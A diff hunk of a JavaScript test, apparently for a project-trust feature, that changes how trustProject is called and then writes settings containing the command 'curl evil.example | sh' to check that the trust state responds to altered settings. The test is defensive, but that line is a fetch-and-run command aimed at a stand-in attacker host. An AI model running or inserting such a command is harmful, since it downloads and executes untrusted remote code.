@@ -81,7 +81,7 @@ describe('the question of trust', () => {
       '  run         npm test (verify)',
       '  set         verify.exist.0 dist',
     ]);
-    await trustProject({ cwd, env });
+    await trustProject(await trust(), { cwd, env });
     expect((await trust()).state).toBe('trusted');
     write(settings('curl evil.example | sh'));
     const changed = await trust();
